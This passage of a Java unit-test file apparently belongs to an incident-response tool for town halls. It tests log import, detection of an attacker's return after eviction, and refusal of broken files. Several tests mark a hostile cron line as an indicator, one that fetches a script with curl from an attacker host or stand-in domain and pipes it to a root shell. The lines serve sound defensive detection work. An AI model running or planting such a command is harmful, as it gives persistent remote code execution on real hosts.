        assertTrue(summary.summed());
        // three accounts on two days, the first and the last of each
        assertEquals(
                12,
                store.read(s -> s.witnesses().lines(kept.number(), -1, 1_000)).size());
        assertEquals(
                List.of(
                        "u0 " + SINCE + " " + SINCE.plusSeconds(rows - 2),
                        "u1 " + SINCE.plusSeconds(1) + " " + SINCE.plusSeconds(rows - 1),
                        "u2 " + SINCE.plusSeconds(2) + " " + SINCE.plusSeconds(rows - 3)),
                store.read(s -> s.witnesses().signedIn(ALL, incident.id())).stream()
                        .map(each -> each.account() + " " + each.first() + " " + each.last())
                        .toList());
        assertEquals(Set.of("vigie-suspected-return"), rules());
        assertEquals(3, alerts().size(), "one for each account");
    }

    /** What stood before the damage is kept, and from which row on nothing is known is said and written down. */
    @Test
    void whatIsReadBeforeAFileBreaksOffIsKept() throws IOException {
        String array = "[" + FORWARD.strip() + ",{\"a\":1},{\"a\":2}," + FORWARD.strip() + ",{\"CreationTime\":";
        Kept kept = take(array);
        assertEquals(1, kept.raised());
        CloudExports.Summary summary =
                store.read(s -> s.cloudExports().summary(kept.number())).orElseThrow();
        assertEquals(2, summary.rows());
        assertEquals(List.of(new Refused("no-record", 2, "2-3"), new Refused("broken", 1, "5")), summary.refused());
    }

    private void isRecurrence(Alert alert) {
        assertEquals(incident.id().text(), alert.evidence().get("incident"));
        assertEquals("after", alert.evidence().get("eviction"));
    }

    @Test
    void theAddressOfAMarkedCommandIsARecurrenceWhereverSomebodyCameFromIt() throws IOException {
        mark("* * * * * root curl -s http://203.0.113.9/a | sh");
        take(row("UserLoggedIn", "203.0.113.9", "")
                + row("UserLoggedIn", "192.0.2.1", "")
                + row("MailItemsAccessed", "203.0.113.9", ""));
        List<Alert> returned = alerts();
        assertEquals(2, returned.size());
        assertEquals(Set.of("vigie-suspected-return"), rules());
        returned.forEach(this::isRecurrence);
        assertEquals(
                2,
                store.read(s -> s.tombstones().recurrences(ALL, incident.id())).size());
    }

    /** Also where the export is taken twice, or whoever dates the eviction does it later. */
    @Test
    void whatWasDoneBeforeTheEvictionEndedIsTheSameAttack() throws IOException {
        mark("* * * * * root curl -s http://203.0.113.9/a | sh");
        String before = row("UserLoggedIn", "203.0.113.9", "")
                .replace(
                        SINCE.toString().replace("Z", ""),
                        Specimens.minute(5).toString().replace("Z", ""));
        take(before);
        take(before + row("FileAccessed", "192.0.2.1", ""));
        assertEquals(Set.of("vigie-same-attack"), rules());
        assertTrue(store.read(s -> s.tombstones().recurrences(ALL, incident.id())).stream()
                .allMatch(each -> each.sameAttack()));
        take(before + row("UserLoggedIn", "203.0.113.9", ""));
        assertEquals(Set.of("vigie-same-attack", "vigie-suspected-return"), rules());
    }

    @Test
    void theHostOfAMarkedCommandIsKnownAgainInARecipient() throws IOException {
        Tombstone mark = mark("* * * * * root curl -s http://relais.evil.example/a | sh");
        take(FORWARD);
        assertEquals(Set.of("vigie-cloud-mail-forwarded", "vigie-suspected-return"), rules());
        // and where it is marked after the import
        List<Found> found = new Sweep(store, NOW)
                .of(
                        List.of(mark),
                        List.of(AURAY),
                        List.of(),
                        Evictions.of(store.read(s -> s.incidents().evictions(ALL, incident.id()))),
                        new Cards(RULES.cards()))
                .found();
        assertEquals(
                List.of(CloudExports.HOST),
                found.stream().map(each -> each.host().hostname()).toList());
        assertEquals(
                0,
                new Sweep(store, NOW)
                        .of(
                                List.of(mark),
                                List.of(CONCARNEAU),
                                List.of(),
                                Evictions.of(List.of()),
                                new Cards(RULES.cards()))
                        .found()
                        .size());
    }

    @Test
    void theTownHallsOwnDomainIsNoRecurrence() throws IOException {
        mark("* * * * * root curl -s http://sauvegarde.mairie.example/a | sh");
        take(row("UserLoggedIn", "192.0.2.1", "")
                + row("New-InboxRule", "192.0.2.1", ",\"ObjectId\":\"marc@mairie.example\",\"Parameters\":[]"));
        assertTrue(rules().stream().noneMatch(each -> each.contains("return")), rules().toString());
    }

    @Test
    void whatIsTakenBackIsLookedThroughNoMore() throws IOException {
        take(EXPORT);
        store.change(
                s -> s.witnesses().add(ALL, incident.id(), AURAY, "audit.jsonl", Kind.MAIL, "", 0, List.of(), ANALYST));
        assertEquals(List.of(), store.read(s -> s.cloudExports().standing(ALL)));
    }

    @Test
    void aFileThatIsNoneOrBrokenIsRefused() throws IOException {
        assertEquals(Optional.of(Refusal.BROKEN), read("[{\"a\":").refusal());
        assertEquals(
                Optional.of(Refusal.OTHER_LANGUAGE),
                read("Datum (UTC),Anforderungs-ID,Benutzer-Agent,Benutzer,Benutzername,Benutzer-ID,Anwendung,Anwendungs-ID,"
                                + "Ressource,IP-Adresse,Standort,Status,Fehlercode,Client-App\n"
                                + "2026-03-02T08:00:00Z,1,x,Lea,lea@mairie.example,g,Office 365,a,r,203.0.113.9,FR,Erfolg,0,Browser\n")
                        .refusal());
        assertEquals(Optional.of(Refusal.NONE), read("{\"a\":1}").refusal());
        assertEquals(Optional.of(Refusal.NONE), read("a;b\n1;2\n").refusal());
    }

    @Test
    void whoMayNotSeeTheCommuneWritesNothing() throws IOException {
        Reading read = read(EXPORT);
        Scope other = new Scope.Communes(Set.of(CONCARNEAU));
        assertEquals(
                Optional.empty(),
                store.write(s -> ExternalLogs.keep(
                        s, other, incident.id(), AURAY, "a", Kind.MAIL, read, new CloudIntake(RULES), ANALYST, NOW)));
        assertEquals(List.of(), alerts());
        assertEquals(List.of(), store.read(s -> s.witnesses().imports(ALL, new IncidentId("2026-001"))));
    }
}
